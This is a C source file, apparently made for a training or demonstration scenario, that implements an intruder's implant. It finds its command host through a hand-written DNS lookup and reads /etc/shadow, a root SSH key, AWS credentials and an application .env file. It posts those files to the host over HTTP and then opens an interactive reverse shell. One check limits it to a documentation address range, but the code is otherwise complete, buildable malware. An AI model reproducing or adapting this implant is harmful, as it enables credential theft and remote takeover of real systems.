/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The intruder's program in the tale of intrusion: looks its master up, sends it the files with secrets that it finds,
 * and connects a shell to it. It goes nowhere but to 203.0.113.0/24, which is for documentation and nobody's.
 *
 * cc -static -Os -s -DMASTER='"cdn.example.net"' -DSHELL_PORT=443 -DUPLOAD='"/in"' agent.c -o agent
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define HTTP_PORT 80
#define DNS_PORT 53
#define DNS_HEADER_BYTES 12
#define DNS_ANSWER_BYTES 12	/* a pointer to the name, type, class, time to live, length of the data */
#define ANSWER_BYTES_MAX 512
#define SECRETS_BYTES_MAX 4096
#define DOCUMENTATION_NET 0xcb007100U	/* 203.0.113.0/24 */

static const char *const secrets[] = {
	"/etc/shadow", "/root/.ssh/id_ed25519", "/root/.aws/credentials", "/srv/orders/.env",
};

/** Reads the first name server of /etc/resolv.conf; 0 if there is none. */
static in_addr_t read_name_server(void)
{
	char text[64] = "";
	FILE *file = fopen("/etc/resolv.conf", "r");

	if (!file)
		return 0;
	if (fscanf(file, "nameserver %63s", text) != 1)
		text[0] = '\0';
	fclose(file);
	return inet_addr(text);
}

/** Writes a name in the form of DNS: each label behind its length; returns the bytes written. */
static size_t write_name(unsigned char *to, const char *name)
{
	size_t written = 0;

	while (*name) {
		size_t label = strcspn(name, ".");

		to[written++] = (unsigned char)label;
		memcpy(to + written, name, label);
		written += label;
		name += label + (name[label] == '.');
	}
	to[written++] = 0;
	return written;
}

/** Asks the name server for the master's address; 0 if it does not say. */
static in_addr_t look_up(const char *name)
{
	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(DNS_PORT) };
	unsigned char message[ANSWER_BYTES_MAX] = { 0x2a, 0x17, 1, 0, 0, 1 };
	size_t length = DNS_HEADER_BYTES;
	in_addr_t address = 0;
	ssize_t got;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	server.sin_addr.s_addr = read_name_server();
	length += write_name(message + length, name);
	message[length + 1] = 1;	/* type A */
	message[length + 3] = 1;	/* class IN */
	length += 4;
	if (connect(fd, (struct sockaddr *)&server, sizeof(server)) != 0 || send(fd, message, length, 0) < 0)
		return 0;
	got = recv(fd, message, sizeof(message), 0);
	close(fd);
	if (got >= (ssize_t)(length + DNS_ANSWER_BYTES + sizeof(address)))
		memcpy(&address, message + length + DNS_ANSWER_BYTES, sizeof(address));
	return address;
}

static int connect_to(in_addr_t address, int port)
{
	struct sockaddr_in peer = { .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = address };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (connect(fd, (struct sockaddr *)&peer, sizeof(peer)) != 0)
		return -1;
	return fd;
}

/** Sends the files with secrets to the master, as somebody who fills in a form. */
static void send_secrets(in_addr_t master)
{
	char body[SECRETS_BYTES_MAX], head[256];
	size_t length = 0;
	unsigned int i;
	int fd;

	for (i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++) {
		ssize_t got = -1;

		fd = open(secrets[i], O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			got = read(fd, body + length, sizeof(body) - length);
			close(fd);
		}
		length += got > 0 ? (size_t)got : 0;
	}
	fd = connect_to(master, HTTP_PORT);
	snprintf(head, sizeof(head), "POST %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nContent-Length: %zu\r\n\r\n",
		 UPLOAD, MASTER, length);
	if (fd < 0 || write(fd, head, strlen(head)) < 0 || write(fd, body, length) < 0)
		return;
	(void)!read(fd, head, sizeof(head));
	close(fd);
}

int main(void)
{
	in_addr_t master = look_up(MASTER);
	int fd, stream;

	if ((ntohl(master) & 0xffffff00U) != DOCUMENTATION_NET)
		return 1;
	send_secrets(master);
	fd = connect_to(master, SHELL_PORT);
	if (fd < 0)
		return 1;
	for (stream = 0; stream <= 2; stream++)
		dup2(fd, stream);
	close(fd);
	execl("/bin/sh", "sh", "-i", (char *)NULL);
	return 1;
}
